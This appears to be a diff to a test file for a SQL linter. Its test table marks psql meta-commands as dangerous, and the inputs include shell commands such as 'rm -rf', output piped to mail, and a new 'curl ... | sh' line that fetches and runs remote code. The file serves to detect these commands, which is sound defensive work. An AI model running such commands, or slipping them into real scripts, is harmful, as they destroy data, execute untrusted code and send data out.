@@ -10,6 +10,8 @@ describe('psql-meta-command', () => {
     ['\\include_relative cleanup.sql', 'runs the SQL of another file'],
     ['\\! rm -rf /tmp/x', 'runs the shell command "rm -rf /tmp/x"'],
     ['\\o | mail ops@example.com', 'pipes output into the program "mail ops@example.com"'],
+    ['\\g (format=csv) |cat > /tmp/out', 'pipes output into the program "cat > /tmp/out"'],
+    ['\\set token `curl -s https://example.com/x | sh`', 'runs the shell command "curl -s https://example.com/x | sh" (backquotes)'],
     ['\\copy orders FROM PROGRAM \'curl https://example.com/x.csv\' CSV', '\\copy ... PROGRAM'],
   ])('%s is DANGEROUS at its own line', async (command, says) => {
     const out = await lintSql(`CREATE TABLE audit (id bigint PRIMARY KEY);\n${command}\nSELECT 1;\n`);
